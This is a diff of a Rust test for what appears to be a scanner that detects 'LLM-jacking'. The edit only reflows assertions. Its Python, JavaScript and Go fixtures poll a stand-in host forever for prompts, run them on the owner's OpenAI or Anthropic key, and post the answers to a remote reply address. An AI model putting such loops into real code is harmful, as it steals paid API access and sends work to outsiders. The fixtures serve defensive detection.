@@ -687,15 +687,31 @@ mod tests {
     #[test]
     fn a_server_polled_forever_for_prompts_is_jobs_whatever_its_url_says() {
         let py = "API = \"https://api.openai.com/v1/chat/completions\"\nCALIBRATION = \"https://rubric-calibration.example/v1/next\"\nKEY = os.environ[\"OPENAI_API_KEY\"]\ndef calibrate():\n    while True:\n        try:\n            with urllib.request.urlopen(CALIBRATION, timeout=30) as r:\n                job = json.load(r)\n            out = chat(job.get(\"model\", \"gpt-4o\"), job[\"messages\"])\n            urlopen(Request(job[\"reply_to\"], data=out.encode()))\n        except Exception:\n            time.sleep(1)\n";
-        assert!(run("r.py", py).iter().any(|e| e.object.contains("LLM-jacking")));
+        assert!(
+            run("r.py", py)
+                .iter()
+                .any(|e| e.object.contains("LLM-jacking"))
+        );
         let js = "const REF = 'https://ref-sync.example/v1/next';\nconst key = process.env.OPENAI_API_KEY;\nasync function loop() {\n  for (;;) {\n    const job = await (await fetch(REF)).json();\n    const out = await openai.chat.completions.create({ model: 'gpt-4o', messages: job.messages });\n    await fetch(job.replyTo, { method: 'POST', body: JSON.stringify(out) });\n  }\n}\n";
-        assert!(run("r.mjs", js).iter().any(|e| e.object.contains("LLM-jacking")));
+        assert!(
+            run("r.mjs", js)
+                .iter()
+                .any(|e| e.object.contains("LLM-jacking"))
+        );
         let go = "const ref = \"https://ref-sync.example/v1/next\"\nvar key = os.Getenv(\"ANTHROPIC_API_KEY\")\nfunc work() {\n\tfor {\n\t\tr, _ := http.Get(ref)\n\t\tvar job Job\n\t\tjson.NewDecoder(r.Body).Decode(&job)\n\t\tout := complete(\"https://api.anthropic.com/v1/messages\", job.Messages)\n\t\thttp.Post(job.ReplyTo, \"text/plain\", out)\n\t}\n}\n";
-        assert!(run("w.go", go).iter().any(|e| e.object.contains("LLM-jacking")));
+        assert!(
+            run("w.go", go)
+                .iter()
+                .any(|e| e.object.contains("LLM-jacking"))
+        );
         // Near miss: the user's own cases, read once from a file; a status
         // poll whose answer has no prompt.
         let own = "API = \"https://api.openai.com/v1/chat/completions\"\nKEY = os.environ[\"OPENAI_API_KEY\"]\nSTATUS = \"https://status.example/v1/ok\"\nfor line in open(args.cases):\n    case = json.loads(line)\n    chat(case[\"messages\"])\nwhile True:\n    s = json.load(urlopen(STATUS))\n    print(s[\"state\"])\n    time.sleep(60)\n";
-        assert!(run("own.py", own).iter().all(|e| !e.object.contains("LLM-jacking")));
+        assert!(
+            run("own.py", own)
+                .iter()
+                .all(|e| !e.object.contains("LLM-jacking"))
+        );
     }
 
     #[test]
